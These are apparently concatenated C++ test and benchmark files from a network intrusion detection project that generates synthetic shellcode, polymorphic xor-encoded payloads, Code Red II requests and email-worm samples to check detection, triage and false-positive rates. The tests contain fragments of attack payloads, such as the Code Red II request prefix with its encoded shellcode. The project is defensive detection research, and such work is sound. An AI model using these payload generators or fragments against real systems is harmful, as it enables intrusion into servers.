  AnalysisContext ctx = engine.make_analysis_context();

  const Alert meta;
  NidsStats stats;
  const auto first = engine.analyze_payload(ctx, bad, meta, &stats);
  ASSERT_FALSE(first.empty());
  const auto benign = engine.analyze_payload(ctx, good, meta, &stats);
  EXPECT_TRUE(benign.empty());
  const auto repeat = engine.analyze_payload(ctx, bad, meta, &stats);
  expect_alerts_equal(first, repeat);
}

}  // namespace
}  // namespace senids::core
