#include <gtest/gtest.h>

#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/emitter.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "net/packet.hpp"
#include "arch/decoder.hpp"
#include "arch/format.hpp"

namespace senids::gen {
namespace {

using util::Bytes;

std::string disasm_one(const Bytes& code) {
  auto insn = arch::decode(code, 0);
  return insn.valid() ? arch::format(insn) : "(bad)";
}

// ---------------------------------------------------------------- emitter

TEST(Emitter, EncodesBasicForms) {
  {
    Asm a;
    a.mov_r32_imm32(R32::ebx, 0x31);
    EXPECT_EQ(disasm_one(a.finish()), "mov ebx, 0x31");
  }
  {
    Asm a;
    a.xor_mem8_imm8(R32::eax, 0x95);
    EXPECT_EQ(disasm_one(a.finish()), "xor byte ptr [eax], 0x95");
  }
  {
    Asm a;
    a.xor_mem8_r8(R32::eax, R8::bl);
    EXPECT_EQ(disasm_one(a.finish()), "xor byte ptr [eax], bl");
  }
  {
    Asm a;
    a.lea(R32::ecx, R32::ebx, 8);
    EXPECT_EQ(disasm_one(a.finish()), "lea ecx, dword ptr [ebx + 0x8]");
  }
  {
    Asm a;
    a.push_imm32(0x6e69622f);
    EXPECT_EQ(disasm_one(a.finish()), "push 0x6e69622f");
  }
  {
    Asm a;
    a.int_imm(0x80);
    EXPECT_EQ(disasm_one(a.finish()), "int 0x80");
  }
  {
    Asm a;
    a.mov_mem_imm32(R32::esp, 4, 0x11223344);
    EXPECT_EQ(disasm_one(a.finish()), "mov dword ptr [esp + 0x4], 0x11223344");
  }
}

/// Property sweep: every ALU family x register pair the engines emit must
/// decode back to the intended mnemonic and operands.
class EmitterAluRoundTrip
    : public ::testing::TestWithParam<std::tuple<int, int, int>> {};

TEST_P(EmitterAluRoundTrip, DecodesBack) {
  const auto [family, dst, src] = GetParam();
  static constexpr const char* kNames[] = {"add", "or",  "adc", "sbb",
                                           "and", "sub", "xor", "cmp"};
  Asm a;
  a.alu_r32_r32(static_cast<std::uint8_t>(family), static_cast<R32>(dst),
                static_cast<R32>(src));
  Bytes code = a.finish();
  auto insn = arch::decode(code, 0);
  ASSERT_TRUE(insn.valid());
  EXPECT_EQ(arch::mnemonic_name(insn.mnemonic), kNames[family]);
  EXPECT_EQ(insn.ops[0].reg, arch::reg32(static_cast<unsigned>(dst)));
  EXPECT_EQ(insn.ops[1].reg, arch::reg32(static_cast<unsigned>(src)));
}

INSTANTIATE_TEST_SUITE_P(AllForms, EmitterAluRoundTrip,
                         ::testing::Combine(::testing::Range(0, 8),
                                            ::testing::Values(0, 3, 6),
                                            ::testing::Values(1, 2, 7)));

TEST(Emitter, LabelsResolveForwardAndBackward) {
  Asm a;
  auto back = a.new_label();
  auto fwd = a.new_label();
  a.bind(back);
  a.nop();
  a.jmp_short(fwd);
  a.loop_(back);
  a.bind(fwd);
  a.ret();
  Bytes code = a.finish();
  // jmp at 1 targets ret; loop at 3 targets 0.
  auto jmp = arch::decode(code, 1);
  ASSERT_TRUE(jmp.valid());
  auto loop = arch::decode(code, 3);
  ASSERT_TRUE(loop.valid());
  EXPECT_EQ(*loop.branch_target(), 0u);
  EXPECT_EQ(*jmp.branch_target(), 5u);
}

TEST(Emitter, Rel8OutOfRangeThrows) {
  Asm a;
  auto far = a.new_label();
  a.jmp_short(far);
  for (int i = 0; i < 200; ++i) a.nop();
  a.bind(far);
  EXPECT_THROW(a.finish(), EmitError);
}

TEST(Emitter, UnboundLabelThrows) {
  Asm a;
  auto l = a.new_label();
  a.jmp(l);
  EXPECT_THROW(a.finish(), EmitError);
}

TEST(Emitter, DoubleBindThrows) {
  Asm a;
  auto l = a.new_label();
  a.bind(l);
  EXPECT_THROW(a.bind(l), EmitError);
}

TEST(Emitter, Low8RejectsHighFamilies) {
  EXPECT_EQ(low8(R32::eax), R8::al);
  EXPECT_EQ(low8(R32::ebx), R8::bl);
  EXPECT_THROW(low8(R32::esi), EmitError);
}

TEST(Emitter, WholeShellcodeDecodesLinearly) {
  // Every instruction of every corpus sample must decode (the emitter and
  // the decoder agree end to end until the embedded data region).
  for (const auto& sample : make_shell_spawn_corpus()) {
    auto insns = arch::linear_sweep(sample.code);
    EXPECT_GE(insns.size(), 8u) << sample.name;
  }
}

// -------------------------------------------------------------- shellcode

TEST(Shellcode, CorpusShape) {
  auto corpus = make_shell_spawn_corpus();
  ASSERT_EQ(corpus.size(), 10u);
  int binders = 0;
  for (const auto& s : corpus) {
    EXPECT_FALSE(s.code.empty()) << s.name;
    if (s.binds_port) ++binders;
  }
  EXPECT_EQ(binders, 2);
}

TEST(Shellcode, NamesAreUnique) {
  auto corpus = make_shell_spawn_corpus();
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    for (std::size_t j = i + 1; j < corpus.size(); ++j) {
      EXPECT_NE(corpus[i].name, corpus[j].name);
    }
  }
}

TEST(Shellcode, AverageSizeMatchesPaperScale) {
  // "The average binary code size is less than 10Kbytes for these
  // exploits" — ours are far smaller, well under the bound.
  auto corpus = make_shell_spawn_corpus();
  std::size_t total = 0;
  for (const auto& s : corpus) total += s.code.size();
  EXPECT_LT(total / corpus.size(), 10u * 1024u);
}

TEST(Shellcode, IisAspDecoderRestoresPayload) {
  // Decode property: xoring the embedded encoded region with the key must
  // reproduce the plain push-builder payload.
  const std::uint8_t key = 0x95;
  Bytes plain = make_shell_spawn_corpus()[1].code;
  Bytes wrapped = make_iis_asp_overflow_payload(key);
  ASSERT_GE(wrapped.size(), plain.size());
  Bytes tail(wrapped.end() - static_cast<std::ptrdiff_t>(plain.size()), wrapped.end());
  for (auto& b : tail) b = static_cast<std::uint8_t>(b ^ key);
  EXPECT_EQ(tail, plain);
}

TEST(Shellcode, NetskySampleSizeAndDeterminism) {
  util::Prng p1(42), p2(42);
  auto s1 = make_netsky_like_sample(p1);
  auto s2 = make_netsky_like_sample(p2);
  EXPECT_EQ(s1.size(), 22u * 1024u);
  EXPECT_EQ(s1, s2);
}

// ------------------------------------------------------------- poly engine

TEST(Poly, EncodedPayloadIsXorOfPlain) {
  util::Prng prng(5);
  auto payload = util::to_bytes("EXAMPLEPAYLOAD");
  PolyResult r = admmutate_encode(payload, prng);
  ASSERT_GE(r.bytes.size(), payload.size());
  Bytes tail(r.bytes.end() - static_cast<std::ptrdiff_t>(payload.size()), r.bytes.end());
  for (std::size_t i = 0; i < tail.size(); ++i) {
    EXPECT_EQ(tail[i] ^ r.key, payload[i]);
  }
}

TEST(Poly, SledWithinConfiguredBounds) {
  PolyOptions opts;
  opts.sled_min = 10;
  opts.sled_max = 20;
  for (std::uint64_t seed = 0; seed < 10; ++seed) {
    util::Prng prng(seed);
    PolyResult r = admmutate_encode(util::as_bytes("x"), prng, opts);
    EXPECT_GE(r.sled_len, 10u);
    EXPECT_LE(r.sled_len, 20u);
  }
}

TEST(Poly, SchemeProbabilityHonored) {
  util::Prng prng(123);
  PolyOptions all_xor;
  all_xor.xor_scheme_prob = 1.0;
  PolyOptions all_alt;
  all_alt.xor_scheme_prob = 0.0;
  EXPECT_EQ(admmutate_encode(util::as_bytes("p"), prng, all_xor).scheme,
            DecoderScheme::kXor);
  EXPECT_EQ(admmutate_encode(util::as_bytes("p"), prng, all_alt).scheme,
            DecoderScheme::kAltOrAndNot);
}

TEST(Poly, SchemeSplitApproximatesPaper) {
  util::Prng prng(9);
  int xor_count = 0;
  const int n = 500;
  for (int i = 0; i < n; ++i) {
    if (admmutate_encode(util::as_bytes("p"), prng).scheme == DecoderScheme::kXor) {
      ++xor_count;
    }
  }
  EXPECT_NEAR(xor_count / static_cast<double>(n), 0.68, 0.06);
}

TEST(Poly, InstancesAreSyntacticallyDiverse) {
  auto payload = util::to_bytes("SAMEPAYLOAD");
  util::Prng prng(77);
  auto a = admmutate_encode(payload, prng);
  auto b = admmutate_encode(payload, prng);
  EXPECT_NE(a.bytes, b.bytes);
}

TEST(Poly, DeterministicForSeed) {
  auto payload = util::to_bytes("SAMEPAYLOAD");
  util::Prng p1(4), p2(4);
  EXPECT_EQ(admmutate_encode(payload, p1).bytes, admmutate_encode(payload, p2).bytes);
}

TEST(Poly, KeyNeverZero) {
  for (std::uint64_t seed = 0; seed < 50; ++seed) {
    util::Prng prng(seed);
    EXPECT_NE(admmutate_encode(util::as_bytes("p"), prng).key, 0);
  }
}

TEST(Poly, SledBytesAreNopLike) {
  util::Prng prng(8);
  Bytes sled = make_nop_sled(prng, 64);
  auto insns = arch::linear_sweep(sled);
  EXPECT_EQ(insns.size(), 64u);  // every sled byte is a 1-byte instruction
}

TEST(Clet, StructureAndPadding) {
  util::Prng prng(3);
  auto payload = util::to_bytes("CLETPAYLOAD");
  PolyResult r = clet_encode(payload, prng, /*spectrum_pad=*/100);
  EXPECT_EQ(r.scheme, DecoderScheme::kXor);
  // Padding bytes at the tail must be printable-ish text characters.
  for (std::size_t i = r.bytes.size() - 100; i < r.bytes.size(); ++i) {
    const std::uint8_t b = r.bytes[i];
    EXPECT_TRUE(b == '\r' || b == '\n' || (b >= 0x20 && b < 0x7f)) << i;
  }
}

// --------------------------------------------------------------- code red

TEST(CodeRed, MatchesFigure5Format) {
  auto req = make_code_red_ii_request();
  std::string text = util::to_string(req);
  EXPECT_EQ(text.rfind("GET /default.ida?X", 0), 0u);
  EXPECT_NE(text.find("%u9090%u6858%ucbd3%u7801"), std::string::npos);
  EXPECT_NE(text.find("HTTP/1.0"), std::string::npos);
}

TEST(CodeRed, FillerLengthConfigurable) {
  CodeRedOptions opts;
  opts.filler_len = 10;
  auto req = make_code_red_ii_request(opts);
  std::string text = util::to_string(req);
  EXPECT_NE(text.find("?XXXXXXXXXX%"), std::string::npos);
}

TEST(CodeRed, VariedInstancesStillWellFormed) {
  util::Prng prng(6);
  CodeRedOptions opts;
  opts.vary_padding = true;
  for (int i = 0; i < 5; ++i) {
    auto req = make_code_red_ii_request(prng, opts);
    std::string text = util::to_string(req);
    EXPECT_EQ(text.rfind("GET /default.ida?", 0), 0u);
  }
}

// ----------------------------------------------------------------- benign

TEST(Benign, CorpusReachesRequestedVolume) {
  util::Prng prng(2);
  auto corpus = make_benign_corpus(prng, 100000);
  std::size_t total = 0;
  for (const auto& p : corpus) total += p.data.size();
  EXPECT_GE(total, 100000u);
}

TEST(Benign, KindsAreDiverse) {
  util::Prng prng(20);
  bool saw_udp = false, saw_http = false, saw_smtp = false;
  for (int i = 0; i < 200; ++i) {
    auto p = make_benign_payload(prng);
    if (p.udp) saw_udp = true;
    if (p.dst_port == 80) saw_http = true;
    if (p.dst_port == 25) saw_smtp = true;
    EXPECT_FALSE(p.data.empty());
  }
  EXPECT_TRUE(saw_udp);
  EXPECT_TRUE(saw_http);
  EXPECT_TRUE(saw_smtp);
}

// ---------------------------------------------------------------- traffic

TEST(Traffic, TcpFlowSegmentsAndTimestamps) {
  TraceBuilder tb(1);
  net::Endpoint src{net::Ipv4Addr::from_octets(1, 1, 1, 1), 1000};
  net::Endpoint dst{net::Ipv4Addr::from_octets(2, 2, 2, 2), 80};
  Bytes payload(3000, 'A');
  tb.add_tcp_flow(src, dst, payload, /*mss=*/1400);
  const auto& cap = tb.capture();
  // SYN + 3 data segments (1400+1400+200) + FIN.
  ASSERT_EQ(cap.records.size(), 5u);
  // Timestamps strictly increase.
  for (std::size_t i = 1; i < cap.records.size(); ++i) {
    const auto& a = cap.records[i - 1];
    const auto& b = cap.records[i];
    EXPECT_TRUE(b.ts_sec > a.ts_sec || (b.ts_sec == a.ts_sec && b.ts_usec > a.ts_usec));
  }
  // Sequence numbers are contiguous across data segments.
  auto p1 = net::parse_frame(cap.records[1].data);
  auto p2 = net::parse_frame(cap.records[2].data);
  ASSERT_TRUE(p1 && p2);
  EXPECT_EQ(p1->tcp.seq + p1->payload.size(), p2->tcp.seq);
}

TEST(Traffic, SynScanEmitsSequentialTargets) {
  TraceBuilder tb(1);
  net::Endpoint src{net::Ipv4Addr::from_octets(9, 9, 9, 9), 2000};
  tb.add_syn_scan(src, net::Ipv4Addr::from_octets(10, 0, 200, 1), 80, 5);
  const auto& cap = tb.capture();
  ASSERT_EQ(cap.records.size(), 5u);
  for (std::size_t i = 0; i < 5; ++i) {
    auto pkt = net::parse_frame(cap.records[i].data);
    ASSERT_TRUE(pkt.has_value());
    EXPECT_EQ(pkt->tcp.flags, net::kTcpSyn);
    EXPECT_EQ(pkt->ip.dst.value,
              net::Ipv4Addr::from_octets(10, 0, 200, 1).value + i);
  }
}

TEST(Traffic, BenignPayloadUsesTransport) {
  TraceBuilder tb(4);
  net::Endpoint src{net::Ipv4Addr::from_octets(1, 2, 3, 4), 5555};
  BenignPayload dns;
  dns.udp = true;
  dns.dst_port = 53;
  dns.data = util::to_bytes("q");
  tb.add_benign(src, net::Ipv4Addr::from_octets(8, 8, 8, 8), dns);
  ASSERT_EQ(tb.capture().records.size(), 1u);
  auto pkt = net::parse_frame(tb.capture().records[0].data);
  ASSERT_TRUE(pkt.has_value());
  EXPECT_EQ(pkt->transport, net::Transport::kUdp);
}

TEST(Traffic, CaptureSerializesThroughPcap) {
  TraceBuilder tb(7);
  net::Endpoint src{net::Ipv4Addr::from_octets(1, 1, 1, 1), 1};
  net::Endpoint dst{net::Ipv4Addr::from_octets(2, 2, 2, 2), 2};
  tb.add_tcp_flow(src, dst, util::as_bytes("hello"));
  auto parsed = pcap::parse(pcap::serialize(tb.capture()));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->records.size(), tb.capture().records.size());
}

}  // namespace
}  // namespace senids::gen

namespace senids::gen {
namespace {

TEST(Poly, FnstenvGetPcInstancesDetectableAndRunnable) {
  PolyOptions opts;
  opts.fnstenv_getpc_prob = 1.0;  // force the FPU GetPC path
  auto payload = make_shell_spawn_corpus()[1].code;
  for (std::uint64_t seed = 300; seed < 310; ++seed) {
    util::Prng prng(seed);
    PolyResult r = admmutate_encode(payload, prng, opts);
    EXPECT_EQ(r.getpc, GetPcMethod::kFnstenv);
    // Encoded payload still sits at the tail, xor of the plain bytes.
    Bytes tail(r.bytes.end() - static_cast<std::ptrdiff_t>(payload.size()),
               r.bytes.end());
    for (std::size_t i = 0; i < tail.size(); ++i) {
      ASSERT_EQ(tail[i] ^ r.key, payload[i]) << "seed " << seed;
    }
  }
}

TEST(Poly, GetPcMethodSplitFollowsProbability) {
  util::Prng prng(55);
  PolyOptions opts;
  int fnstenv = 0;
  const int n = 200;
  for (int i = 0; i < n; ++i) {
    if (admmutate_encode(util::as_bytes("p"), prng, opts).getpc ==
        GetPcMethod::kFnstenv) {
      ++fnstenv;
    }
  }
  EXPECT_NEAR(fnstenv / static_cast<double>(n), 0.25, 0.08);
}

}  // namespace
}  // namespace senids::gen

namespace senids::gen {
namespace {

TEST(Traffic, HttpExchangeEmitsBothDirections) {
  TraceBuilder tb(8);
  net::Endpoint client{net::Ipv4Addr::from_octets(1, 1, 1, 1), 40000};
  net::Endpoint server{net::Ipv4Addr::from_octets(2, 2, 2, 2), 80};
  tb.add_http_exchange(client, server, util::as_bytes("GET / HTTP/1.1\r\n\r\n"),
                       util::as_bytes("HTTP/1.1 200 OK\r\n\r\nhi"));
  bool saw_forward = false, saw_reverse = false;
  for (const auto& rec : tb.capture().records) {
    auto pkt = net::parse_frame(rec.data);
    ASSERT_TRUE(pkt.has_value());
    if (pkt->ip.src == client.ip) saw_forward = true;
    if (pkt->ip.src == server.ip) saw_reverse = true;
  }
  EXPECT_TRUE(saw_forward);
  EXPECT_TRUE(saw_reverse);
}

}  // namespace
}  // namespace senids::gen
