// Differential harness for stage-0 triage: every generator corpus is run
// through a triage-off engine and a triage-on engine over the *same*
// capture, across the full deployment matrix — threads {1,4} x shards
// {1,4} x verdict-cache {off,on} — and the sorted alert lists must be
// identical in every field. This is the prefilter's correctness
// contract: rejecting a unit at stage 0 must be indistinguishable from
// fully analyzing it and finding nothing, under every execution shape
// the engine supports.
#include <gtest/gtest.h>

#include <vector>

#include "arch/arch.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/mailworm.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/shellcode64.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Endpoint kClient{Ipv4Addr::from_octets(198, 51, 100, 10), 45000};

constexpr ThreatClass kAllThreats[] = {
    ThreatClass::kDecryptionLoop, ThreatClass::kShellSpawn,
    ThreatClass::kPortBindShell,  ThreatClass::kReverseShell,
    ThreatClass::kCodeRedII,      ThreatClass::kCustom,
};

Endpoint attacker(std::size_t i) {
  return Endpoint{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                  static_cast<std::uint16_t>(30000 + i)};
}

struct MatrixPoint {
  std::size_t threads;
  std::size_t shards;
  bool cache;
};

constexpr MatrixPoint kMatrix[] = {
    {1, 1, false}, {1, 1, true}, {1, 4, false}, {1, 4, true},
    {4, 1, false}, {4, 1, true}, {4, 4, false}, {4, 4, true},
};

NidsEngine make_engine(triage::TriageMode mode, const MatrixPoint& p,
                       const arch::Arch* arch = nullptr) {
  NidsOptions options;
  options.arch = arch;
  options.classifier.analyze_everything = true;
  options.threads = p.threads;
  options.shards = p.shards;
  options.verdict_cache_bytes = p.cache ? (8u << 20) : 0;
  options.triage.mode = mode;
  return NidsEngine(options);
}

void expect_alerts_equal(const std::vector<Alert>& a, const std::vector<Alert>& b,
                         const MatrixPoint& p) {
  ASSERT_EQ(a.size(), b.size()) << "threads=" << p.threads << " shards=" << p.shards
                                << " cache=" << p.cache;
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].ts_sec, b[i].ts_sec) << "alert " << i;
    EXPECT_EQ(a[i].src.value, b[i].src.value) << "alert " << i;
    EXPECT_EQ(a[i].dst.value, b[i].dst.value) << "alert " << i;
    EXPECT_EQ(a[i].src_port, b[i].src_port) << "alert " << i;
    EXPECT_EQ(a[i].dst_port, b[i].dst_port) << "alert " << i;
    EXPECT_EQ(a[i].threat, b[i].threat) << "alert " << i;
    EXPECT_EQ(a[i].template_name, b[i].template_name) << "alert " << i;
    EXPECT_EQ(a[i].frame_reason, b[i].frame_reason) << "alert " << i;
    EXPECT_EQ(a[i].frame_offset, b[i].frame_offset) << "alert " << i;
  }
}

/// The harness: for every matrix point, a triage-on engine and a
/// triage-off engine must produce identical sorted alert lists and
/// identical per-threat detections over `capture`.
void expect_triage_lossless(const pcap::Capture& capture,
                            const arch::Arch* arch = nullptr) {
  for (const MatrixPoint& p : kMatrix) {
    NidsEngine off = make_engine(triage::TriageMode::kOff, p, arch);
    NidsEngine on = make_engine(triage::TriageMode::kOn, p, arch);
    const Report r_off = off.process_capture(capture);
    const Report r_on = on.process_capture(capture);

    expect_alerts_equal(r_off.alerts, r_on.alerts, p);
    for (ThreatClass t : kAllThreats) {
      EXPECT_EQ(r_off.detected(t), r_on.detected(t))
          << semantic::threat_class_name(t) << " threads=" << p.threads
          << " shards=" << p.shards << " cache=" << p.cache;
    }
    // Rejection skips work, not units: both engines account every unit.
    EXPECT_EQ(r_off.stats.units_analyzed, r_on.stats.units_analyzed);
    // Triage-off engines must not touch the tier counters at all.
    EXPECT_EQ(r_off.stats.triage_screened, 0u);
    // Triage-on invariants: everything screened, two-way split, and the
    // cache only ever sees escalated units.
    EXPECT_EQ(r_on.stats.triage_screened, r_on.stats.units_analyzed);
    EXPECT_EQ(r_on.stats.triage_screened,
              r_on.stats.triage_escalated + r_on.stats.triage_rejected);
    if (p.cache) {
      EXPECT_EQ(r_on.stats.cache_hits + r_on.stats.cache_misses + r_on.stats.cache_bypass,
                r_on.stats.units_analyzed - r_on.stats.triage_rejected);
    }
  }
}

// ------------------------------------------------------------- corpora

pcap::Capture admmutate_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 8; ++i) {
    const auto poly = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, poly.bytes);
  }
  return tb.take();
}

pcap::Capture clet_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 8; ++i) {
    const auto poly = gen::clet_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, poly.bytes);
  }
  return tb.take();
}

pcap::Capture codered_corpus(std::uint64_t seed, std::size_t flows = 16) {
  gen::TraceBuilder tb(seed);
  const util::Bytes request = gen::make_code_red_ii_request();
  for (std::size_t i = 0; i < flows; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
  }
  return tb.take();
}

pcap::Capture mailworm_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (std::size_t i = 0; i < 4; ++i) {
    const auto worm = gen::make_email_worm(tb.prng());
    tb.add_tcp_flow(attacker(i), mx, worm.smtp_payload);
  }
  return tb.take();
}

pcap::Capture benign_corpus(std::uint64_t seed) {
  // The workload triage exists for: plain benign traffic plus the
  // benign-but-suspicious payloads seeded to straddle the
  // reject/escalate boundary (sled-lookalike ASCII, base64 blobs,
  // compressed downloads).
  gen::TraceBuilder tb(seed);
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (int i = 0; i < 20; ++i) {
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  for (int i = 0; i < 6; ++i) {
    tb.add_benign(kClient, kServer, gen::make_suspicious_benign_payload(tb.prng()));
  }
  for (int i = 0; i < 4; ++i) {
    tb.add_tcp_flow(kClient, mx, gen::make_benign_email(tb.prng()));
  }
  return tb.take();
}

pcap::Capture x64_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::ExploitBuilder64::corpus();
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80},
                    gen::ExploitBuilder64::wrap(corpus[i].code, tb.prng()));
  }
  return tb.take();
}

pcap::Capture mixed_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  const util::Bytes request = gen::make_code_red_ii_request();
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (std::size_t i = 0; i < 6; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
    const auto adm = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 10), Endpoint{kServer, 80}, adm.bytes);
    const auto clet = gen::clet_encode(corpus[(i + 3) % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 20), Endpoint{kServer, 80}, clet.bytes);
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
    tb.add_benign(kClient, kServer, gen::make_suspicious_benign_payload(tb.prng()));
  }
  const auto worm = gen::make_email_worm(tb.prng());
  tb.add_tcp_flow(attacker(30), mx, worm.smtp_payload);
  return tb.take();
}

// ------------------------------------------- triage-on == triage-off

TEST(TriageDifferential, AdmmutateCorpus) { expect_triage_lossless(admmutate_corpus(201)); }

TEST(TriageDifferential, CletCorpus) { expect_triage_lossless(clet_corpus(202)); }

TEST(TriageDifferential, CodeRedCorpus) { expect_triage_lossless(codered_corpus(203)); }

TEST(TriageDifferential, MailwormCorpus) { expect_triage_lossless(mailworm_corpus(204)); }

TEST(TriageDifferential, BenignCorpus) {
  // The benign control also proves triage earns its keep: a strict
  // majority of benign units must be rejected at stage 0, and neither
  // engine may alert.
  const pcap::Capture capture = benign_corpus(205);
  NidsEngine on = make_engine(triage::TriageMode::kOn, {1, 1, false});
  const Report report = on.process_capture(capture);
  EXPECT_TRUE(report.alerts.empty());
  EXPECT_GT(report.stats.triage_rejected, report.stats.triage_escalated);
  expect_triage_lossless(capture);
}

TEST(TriageDifferential, MixedCorpus) { expect_triage_lossless(mixed_corpus(206)); }

TEST(TriageDifferential, X64Corpus) {
  // The x86-64 attack corpus under the x86_64 engine: triage must stay
  // lossless across the whole matrix, and the escalation path must
  // actually carry the attacks (every wrapped payload alerts).
  const pcap::Capture capture = x64_corpus(209);
  expect_triage_lossless(capture, &arch::Arch::x86_64());
  NidsEngine on =
      make_engine(triage::TriageMode::kOn, {1, 1, true}, &arch::Arch::x86_64());
  const Report r = on.process_capture(capture);
  EXPECT_EQ(r.stats.triage_escalated, gen::ExploitBuilder64::corpus().size());
  EXPECT_FALSE(r.alerts.empty());
}

TEST(TriageDifferential, ForceEscalateMatchesOffExactly) {
  // kForceEscalate screens every unit but rejects none: it must be
  // indistinguishable from triage-off in alerts *and* leave the
  // rejected counter at zero (the counters still tick).
  const pcap::Capture capture = mixed_corpus(207);
  const MatrixPoint p{1, 1, true};
  NidsEngine off = make_engine(triage::TriageMode::kOff, p);
  NidsEngine force = make_engine(triage::TriageMode::kForceEscalate, p);
  const Report r_off = off.process_capture(capture);
  const Report r_force = force.process_capture(capture);
  expect_alerts_equal(r_off.alerts, r_force.alerts, p);
  EXPECT_EQ(r_force.stats.triage_screened, r_force.stats.units_analyzed);
  EXPECT_EQ(r_force.stats.triage_escalated, r_force.stats.triage_screened);
  EXPECT_EQ(r_force.stats.triage_rejected, 0u);
}

TEST(TriageDifferential, CacheWarmingUnaffectedByTriage) {
  // Two passes of the same capture through one triage-on cache-on
  // engine: rejected units bypass the cache in both passes, escalated
  // units hit in pass 2, and the alert lists match pass for pass.
  const pcap::Capture capture = mixed_corpus(208);
  NidsEngine on = make_engine(triage::TriageMode::kOn, {1, 1, true});
  const Report first = on.process_capture(capture);
  const Report second = on.process_capture(capture);
  expect_alerts_equal(first.alerts, second.alerts, {1, 1, true});
  EXPECT_GT(first.stats.cache_misses, 0u);
  EXPECT_EQ(second.stats.cache_misses, 0u);
  EXPECT_EQ(second.stats.cache_hits,
            second.stats.units_analyzed - second.stats.triage_rejected -
                second.stats.cache_bypass);
}

}  // namespace
}  // namespace senids::core
