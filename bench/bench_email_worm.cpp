// Future-work reproduction: "we intend to classify more exploit
// behaviors ... to detect additional families of malicious traffic (i.e.
// email worms)." Polymorphic worm attachments ride SMTP as base64 MIME
// parts; the extended extraction stage translates them to binary and the
// same decoder/shell semantics fire. Benign mail with document
// attachments is the false-positive control.
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/mailworm.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Future work: email-worm detection over SMTP (base64 attachments)");
  const std::size_t n = bench::env_size("SENIDS_POLY_INSTANCES", 100);

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  core::NidsEngine static_engine(options);
  options.enable_emulation = true;
  core::NidsEngine deep_engine(options);

  util::Prng prng(20060706);
  std::size_t decoder_hits = 0, shell_deep_hits = 0, benign_alerts = 0;
  double worm_ms = 0, benign_ms = 0;

  for (std::size_t i = 0; i < n; ++i) {
    auto worm = gen::make_email_worm(prng);
    core::Alert meta;
    util::WallTimer timer;
    auto static_alerts = static_engine.analyze_payload(worm.smtp_payload, meta);
    auto deep_alerts = deep_engine.analyze_payload(worm.smtp_payload, meta);
    worm_ms += timer.millis();
    for (const auto& a : static_alerts) {
      if (a.threat == semantic::ThreatClass::kDecryptionLoop) {
        ++decoder_hits;
        break;
      }
    }
    for (const auto& a : deep_alerts) {
      if (a.threat == semantic::ThreatClass::kShellSpawn) {
        ++shell_deep_hits;
        break;
      }
    }
  }

  for (std::size_t i = 0; i < n; ++i) {
    auto mail = gen::make_benign_email(prng, 1024 + prng.below(4096));
    core::Alert meta;
    util::WallTimer timer;
    benign_alerts += deep_engine.analyze_payload(mail, meta).size();
    benign_ms += timer.millis();
  }

  std::printf("%-44s %6zu/%zu\n", "worm attachments: decoder template (static):",
              decoder_hits, n);
  std::printf("%-44s %6zu/%zu\n", "worm attachments: shell behaviour (deep):",
              shell_deep_hits, n);
  std::printf("%-44s %6zu/%zu\n", "benign document mails: alerts:", benign_alerts, n);
  std::printf("per-mail analysis: %.2f ms worm, %.2f ms benign\n",
              worm_ms / static_cast<double>(n), benign_ms / static_cast<double>(n));
  const bool ok = decoder_hits == n && shell_deep_hits == n && benign_alerts == 0;
  std::printf("result shape %s\n", ok ? "as designed" : "DIVERGES");
  return ok ? 0 : 1;
}
