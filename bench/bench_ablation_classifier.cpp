// Ablation for the Section 4.1 claim: "it is more efficient to prune the
// traffic sent to the later stages, as they are very CPU-intensive."
// The same mixed capture is processed with the classifier active
// (honeypot + dark space) and with classification disabled (every packet
// analyzed): detections must be identical for the attack subset while the
// analyzed-unit count and wall time drop sharply with pruning.
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Ablation: traffic classification on vs off (Section 4.1)");

